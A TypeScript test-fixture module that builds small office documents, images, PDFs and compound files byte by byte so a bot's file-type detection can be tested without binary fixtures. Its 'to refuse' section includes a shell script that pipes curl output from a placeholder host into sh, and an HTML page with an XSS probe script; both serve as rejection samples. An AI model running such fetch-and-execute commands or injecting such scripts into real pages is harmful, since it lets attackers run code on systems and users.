/**
 * Small but real files of every kind the bot accepts or refuses, built here byte by byte
 * (or by exceljs), so the sniffing tests need no binary fixtures: a PDF, PNG/JPEG/WebP/HEIC
 * images, OOXML (zip) and OpenDocument (zip, mimetype first) documents, OLE2 compound files
 * as Word/Excel/PowerPoint 97-2003 write them, and things to refuse.
 */
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import ExcelJS from "exceljs";

// ------------------------------------------------------------------------- zip

export interface ZipEntry {
  name: string;
  data: string | Buffer;
  /** Deflated (as office programs do for XML) rather than stored. */
  deflate?: boolean;
}

/** A zip archive (local headers, central directory, end record), as PKZIP 2.0 describes it. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, "utf8");
    const raw = Buffer.from(entry.data);
    const body = entry.deflate ? deflateRawSync(raw) : raw;
    const crc = crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(entry.deflate ? 8 : 0, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, body);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(entry.deflate ? 8 : 0, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

// ------------------------------------------------------------------------- OOXML

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

function contentTypes(partName: string, contentType: string): string {
  return (
    `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/${partName}" ContentType="${contentType}"/></Types>`
  );
}

function rels(target: string): string {
  return (
    `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" ' +
    `Target="${target}"/></Relationships>`
  );
}

/** A Word document with one paragraph, laid out as Word writes it ([Content_Types].xml first). */
export function docx(text = "Báo cáo kết quả cải cách hành chính năm 2019", padding = 0): Buffer {
  const body = `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`.repeat(1 + padding);
  return zip([
    {
      name: "[Content_Types].xml",
      data: contentTypes(
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
      ),
      deflate: true,
    },
    { name: "_rels/.rels", data: rels("word/document.xml"), deflate: true },
    {
      name: "word/document.xml",
      data: `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
      deflate: true,
    },
  ]);
}

/**
 * A PowerPoint presentation; with `contentTypesLast`, [Content_Types].xml comes after a
 * large slide, past the first 4 KB (some writers put it last).
 */
export function pptx(contentTypesLast = false, slideBytes = 0): Buffer {
  const types = {
    name: "[Content_Types].xml",
    data: contentTypes(
      "ppt/presentation.xml",
      "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    deflate: true,
  };
  const parts: ZipEntry[] = [
    { name: "_rels/.rels", data: rels("ppt/presentation.xml"), deflate: true },
    {
      name: "ppt/presentation.xml",
      data: `${XML}<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`,
      deflate: true,
    },
    // Incompressible, as a slide's picture is.
    { name: "ppt/media/image1.png", data: Buffer.concat([png(), randomish(slideBytes)]) },
  ];
  return zip(contentTypesLast ? [...parts, types] : [types, ...parts]);
}

/** An Excel workbook written by exceljs, as /xuat writes them. */
export async function xlsx(): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("Tổng hợp");
  sheet.addRow(["Đơn vị", "Điểm"]);
  sheet.addRow(["Huyện Sông Mã", 87.5]);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

// ------------------------------------------------------------------------- OpenDocument

/** An OpenDocument file: "mimetype" first and stored, as the specification requires. */
export function odf(mime: string): Buffer {
  return zip([
    { name: "mimetype", data: mime },
    {
      name: "META-INF/manifest.xml",
      data: `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mime}"/></manifest:manifest>`,
      deflate: true,
    },
    { name: "content.xml", data: `${XML}<office:document-content/>`, deflate: true },
  ]);
}

export const ODT = "application/vnd.oasis.opendocument.text";
export const ODS = "application/vnd.oasis.opendocument.spreadsheet";
export const ODP = "application/vnd.oasis.opendocument.presentation";

// ------------------------------------------------------------------------- OLE2 (CFB)

const FREE = 0xffffffff;
const END_OF_CHAIN = 0xfffffffe;
const FAT_SECTOR = 0xfffffffd;

/** A stream's name, or a storage (a folder) holding more entries. */
export type CompoundEntry = string | { storage: string; entries: CompoundEntry[] };

/**
 * A compound file ([MS-CFB], version 3, 512-byte sectors) holding empty streams of the given
 * names, as Word ("WordDocument"), Excel ("Workbook") or PowerPoint ("PowerPoint Document")
 * 97-2003 write them; each storage's children form a balanced tree through their left and
 * right siblings, as the red-black trees of real files do. `fillerSectors` puts that many
 * sectors of data before the directory, as real files often do, so the directory lies past
 * the first 4 KB.
 */
export function cfb(streams: CompoundEntry[], fillerSectors = 0): Buffer {
  const sector = 512;
  // The directory, flattened: entry 0 is the root storage.
  const flat: { name: string; type: number; left: number; right: number; child: number }[] = [];
  const add = (name: string, type: number, children: CompoundEntry[]): number => {
    const id = flat.length;
    flat.push({ name, type, left: FREE, right: FREE, child: FREE });
    const ids = children.map((c) => (typeof c === "string" ? add(c, 2, []) : add(c.storage, 1, c.entries)));
    const tree = (part: number[]): number => {
      if (part.length === 0) return FREE;
      const middle = Math.floor(part.length / 2);
      const at = part[middle]!;
      flat[at]!.left = tree(part.slice(0, middle));
      flat[at]!.right = tree(part.slice(middle + 1));
      return at;
    };
    flat[id]!.child = tree(ids);
    return id;
  };
  add("Root Entry", 5, streams);

  const directorySectors = Math.ceil(flat.length / 4);
  // Sector 0 is the FAT, then the filler, then the directory chain.
  const firstDirectory = 1 + fillerSectors;
  const total = firstDirectory + directorySectors;
  const header = Buffer.alloc(sector);
  Buffer.from("d0cf11e0a1b11ae1", "hex").copy(header, 0);
  header.writeUInt16LE(0x3e, 0x18); // minor version
  header.writeUInt16LE(3, 0x1a); // major version
  header.writeUInt16LE(0xfffe, 0x1c); // byte order
  header.writeUInt16LE(9, 0x1e); // sector shift: 512
  header.writeUInt16LE(6, 0x20); // mini sector shift: 64
  header.writeUInt32LE(1, 0x2c); // FAT sectors
  header.writeUInt32LE(firstDirectory, 0x30);
  header.writeUInt32LE(4096, 0x38); // mini stream cutoff
  header.writeUInt32LE(END_OF_CHAIN, 0x3c); // first mini FAT sector
  header.writeUInt32LE(END_OF_CHAIN, 0x44); // first DIFAT sector
  header.writeUInt32LE(0, 0x40); // mini FAT sectors
  header.writeUInt32LE(0, 0x48); // DIFAT sectors
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : FREE, 0x4c + i * 4);

  const fat = Buffer.alloc(sector, 0xff);
  fat.writeUInt32LE(FAT_SECTOR, 0);
  for (let s = 1; s <= fillerSectors; s++) fat.writeUInt32LE(s === fillerSectors ? END_OF_CHAIN : s + 1, s * 4);
  for (let s = firstDirectory; s < total; s++) fat.writeUInt32LE(s === total - 1 ? END_OF_CHAIN : s + 1, s * 4);

  const directory = Buffer.alloc(directorySectors * sector);
  for (let i = 0; i < directorySectors * 4; i++) {
    const at = i * 128;
    const entry = flat[i] ?? { name: "", type: 0, left: FREE, right: FREE, child: FREE };
    const utf16 = entry.name ? Buffer.from(`${entry.name}\0`, "utf16le") : Buffer.alloc(0);
    utf16.copy(directory, at);
    directory.writeUInt16LE(utf16.length, at + 0x40);
    directory.writeUInt8(entry.type, at + 0x42);
    directory.writeUInt8(1, at + 0x43); // black
    directory.writeUInt32LE(entry.left, at + 0x44);
    directory.writeUInt32LE(entry.right, at + 0x48);
    directory.writeUInt32LE(entry.child, at + 0x4c);
    directory.writeUInt32LE(END_OF_CHAIN, at + 0x74); // starting sector: empty streams
  }
  return Buffer.concat([header, fat, randomish(fillerSectors * sector), directory]);
}

const SUMMARY = ["\u0005SummaryInformation", "\u0005DocumentSummaryInformation"];
export const DOC_STREAMS = ["1Table", ...SUMMARY, "CompObj", "WordDocument", "Data"];
export const XLS_STREAMS = [...SUMMARY, "Workbook", "CompObj"];
export const PPT_STREAMS = [...SUMMARY, "Current User", "PowerPoint Document", "Pictures"];
/** A Windows Installer package is a compound file too: it must not pass as an office file. */
export const MSI_STREAMS = ["\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824", "\u0005SummaryInformation"];

// ------------------------------------------------------------------------- images, PDF

/** Deterministic bytes that do not compress and match no signature. */
export function randomish(length: number): Buffer {
  const out = Buffer.alloc(length);
  let x = 0x9e3779b9;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A 1×1 white PNG. */
export function png(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(2, 9); // truecolour
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(Buffer.from([0, 255, 255, 255]))),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** The smallest JPEG header (SOI, JFIF APP0) and end of image. */
export function jpeg(): Buffer {
  return Buffer.concat([
    Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
    randomish(64),
    Buffer.from("ffd9", "hex"),
  ]);
}

/** A 1×1 lossless WebP. */
export function webp(): Buffer {
  return Buffer.from("524946461a000000574542505650384c0d0000002f0000001007101111888808fe0700", "hex").subarray(0, 34);
}

/** The start of an iPhone photo: an ISO-BMFF "ftyp" box with the heic brand, then a "meta" box. */
export function heic(brand = "heic"): Buffer {
  const ftyp = Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    Buffer.from(`ftyp${brand}`, "latin1"),
    Buffer.alloc(4),
    Buffer.from(`mif1${brand}`, "latin1"),
  ]);
  const meta = Buffer.concat([Buffer.from([0, 0, 0, 0x0c]), Buffer.from("meta", "latin1"), Buffer.alloc(4)]);
  return Buffer.concat([ftyp, meta, randomish(256)]);
}

/** A one-page PDF with its cross-reference table. */
export function pdf(): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
  ];
  let text = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(text));
    text += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text);
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) text += `${String(o).padStart(10, "0")} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

// ------------------------------------------------------------------------- to refuse

/** The start of a Windows program: "MZ", the DOS stub and a PE header. */
export function exe(): Buffer {
  const out = Buffer.alloc(512);
  out.write("MZ", 0, "latin1");
  out.writeUInt32LE(0x80, 0x3c);
  out.write("This program cannot be run in DOS mode.", 0x4e, "latin1");
  out.write("PE\0\0", 0x80, "latin1");
  out.writeUInt16LE(0x14c, 0x84); // i386
  return out;
}

export const shellScript = () => Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n");
export const html = () =>
  Buffer.from(
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Báo cáo</title></head><body><script>alert(1)</script></body></html>',
  );
export const text = () => Buffer.from("Báo cáo kết quả thực hiện cải cách hành chính năm 2019\n");
/** A zip of some photos: an archive, not an office document. */
export const plainZip = () =>
  zip([
    { name: "anh-1.png", data: png() },
    { name: "ghi-chu.txt", data: "xem ảnh", deflate: true },
  ]);
